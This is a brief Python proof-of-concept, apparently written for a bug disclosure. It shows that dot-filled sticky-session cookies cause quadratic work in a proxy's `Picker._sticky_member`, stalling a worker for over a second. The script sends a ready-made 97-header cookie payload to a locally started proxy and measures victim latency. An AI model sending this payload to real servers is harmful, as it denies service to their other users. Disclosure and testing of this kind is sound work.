"""A sticky cookie made of dots costs its worker O(n^2): `Picker._sticky_member` slices and
hashes the value after *every* dot, looking each suffix up as a route.  97 Cookie fields of
8,180 dots (what LimitRequestFields / LimitRequestFieldSize allow) hold the worker's loop for
over a second; every other connection of that worker waits."""
import socket, threading, time
from h import Member, get, members_section, start_proxy

a, b = Member("a"), Member("b")
p = start_proxy([{"path": "/", "to": "balancer://app/"}], workers=1,
                balancers={"app": members_section([a, b], sticky="ROUTEID")})
print("victim alone: %.1f ms" % (get(p, "/v")[3] * 1000))
cookie = b"".join(b"Cookie: ROUTEID=" + b"." * 8170 + b"\r\n" for _ in range(97))
status, _, _, took = get(p, "/x", cookie)
print("attacker (97 cookies of 8170 dots): status %d in %.0f ms" % (status, took * 1000))
result = {}
t = threading.Thread(target=lambda: result.update(r=get(p, "/x", cookie)))
t.start(); time.sleep(0.05)
print("victim during the attack: %.0f ms" % (get(p, "/v")[3] * 1000))
t.join()
